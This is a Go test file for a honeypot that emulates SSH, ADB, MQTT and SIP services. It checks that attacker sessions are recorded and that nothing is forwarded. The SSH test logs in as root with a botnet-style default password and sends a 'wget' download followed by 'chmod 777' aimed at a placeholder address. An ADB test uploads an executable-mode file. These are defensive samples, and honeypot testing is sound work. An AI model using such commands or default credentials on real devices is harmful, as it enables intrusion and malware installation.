package emulate

import (
	"bytes"
	"encoding/binary"
	"net"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"dragnet/trap/session"
)

// TestSSH: a real client logs in, runs a command and uploads a file; what it did is
// recorded in clear text, and nothing is forwarded.
func TestSSH(t *testing.T) {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	near, err := net.Dial("tcp4", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	far, err := ln.Accept()
	if err != nil {
		t.Fatal(err)
	}
	inner := session.NewRecorder(session.Session{}, 1<<20, time.Now)
	done := make(chan string, 1)
	go func() {
		defer far.Close()
		outer := session.NewRecorder(session.Session{}, 1<<20, time.Now)
		done <- Serve(NewConn(far, outer, 5*time.Second, time.Now().Add(20*time.Second), func(string) *session.Recorder { return inner }), 22)
	}()
	c, channels, requests, err := ssh.NewClientConn(near, "x", &ssh.ClientConfig{User: "root", Auth: []ssh.AuthMethod{ssh.Password("vizxv")}, HostKeyCallback: ssh.InsecureIgnoreHostKey()})
	if err != nil {
		t.Fatal(err)
	}
	client := ssh.NewClient(c, channels, requests)
	s, err := client.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	out, err := s.Output("wget http://203.0.113.9/x; chmod 777 x")
	if _, ok := err.(*ssh.ExitError); !ok || !strings.Contains(string(out), "wget: not found") {
		t.Errorf("%q, %v", out, err)
	}
	if conn, err := client.Dial("tcp", "203.0.113.9:80"); err == nil {
		conn.Close()
		t.Error("a connection was forwarded")
	}
	if s, err = client.NewSession(); err != nil {
		t.Fatal(err)
	}
	s.Stdin = strings.NewReader("C0644 3 x\nabc\x00")
	if out, err := s.Output("scp -t /tmp/x"); err != nil || !bytes.HasPrefix(out, []byte{0}) {
		t.Errorf("scp: %q, %v", out, err)
	}
	if err := client.Close(); err != nil {
		t.Error(err)
	}
	<-done
	got := inner.Finish("closed")
	if got.Login != "root vizxv" || got.Service != "ssh/shell" || string(got.Sent) != "wget http://203.0.113.9/x; chmod 777 x\nscp -t /tmp/x\nC0644 3 x\nabc\x00" {
		t.Errorf("%+v, sent %q", got, got.Sent)
	}
}

// TestADBFiles: files are taken however they are cut.
func TestADBFiles(t *testing.T) {
	upload := "SEND\x0a\x00\x00\x00/tmp/x,777" + "DATA\x03\x00\x00\x00abc" + "DATA\x04\x00\x00\x00DONE" + "DONE\x01\x02\x03\x04" + "QUIT\x00\x00\x00\x00"
	for n := 1; n < len(upload); n++ {
		var s adbSync
		if got := s.take([]byte(upload[:n])) + s.take([]byte(upload[n:])); got != "OKAY\x00\x00\x00\x00" {
			t.Fatalf("cut at %d: %q", n, got)
		}
	}
}

// FuzzADB gives a device hostile messages: streams are bounded, and answers too.
func FuzzADB(f *testing.F) {
	f.Add([]byte("shell:id\x00"), []byte("SEND\x01\x00\x00\x00x"), uint32(1))
	f.Add([]byte("sync:\x00"), []byte("DATA\xff\xff\xff\xff"), uint32(0))
	f.Fuzz(func(t *testing.T, service, data []byte, id uint32) {
		streams := map[uint32]*adbStream{}
		for n := range uint32(100) {
			answerADB(streams, adbMessage(adbOpen, id+n, 0, service))
			out := answerADB(streams, adbMessage(adbWrite, id+n, id+n, data))
			if len(streams) > maxADBStreams || len(out) > 100+20*(len(data)+8) {
				t.Fatalf("%d streams, %d bytes answer %d", len(streams), len(out), len(data))
			}
			for len(out) > 0 {
				size := 24 + int(binary.LittleEndian.Uint32(out[12:]))
				out = out[size:]
			}
		}
	})
}

// FuzzMQTT: every answer is a whole packet of at most ten bytes.
func FuzzMQTT(f *testing.F) {
	f.Add(byte(0x10), []byte("\x00\x04MQTT\x05\x02\x00\x3c\x00\x01a"), byte(4))
	f.Add(byte(0x34), []byte("\x00\x01t\x00\x07abc"), byte(5))
	f.Add(byte(0xa2), []byte("\x00\x08"), byte(5))
	f.Fuzz(func(t *testing.T, first byte, body []byte, version byte) {
		out, _ := answerMQTT(first, body, version)
		if len(out) > 0 && (len(out) > 10 || int(out[1]) != len(out)-2) {
			t.Errorf("%x", out)
		}
	})
}

// FuzzSIP: no answer is longer than the request, and each is one message.
func FuzzSIP(f *testing.F) {
	f.Add([]byte("OPTIONS sip:a@b SIP/2.0\r\nVia: x\r\nv: y\r\nTo: z\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n"))
	f.Add([]byte("INVITE sip:a SIP/2.0\r\n\r\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		a := answerSIP(b)
		if len(a) > len(b) || len(a) > 0 && (!bytes.HasSuffix(a, []byte("\r\n\r\n")) || bytes.Count(a, []byte("\r\n\r\n")) != 1) {
			t.Errorf("%q is answered %q", b, a)
		}
	})
}
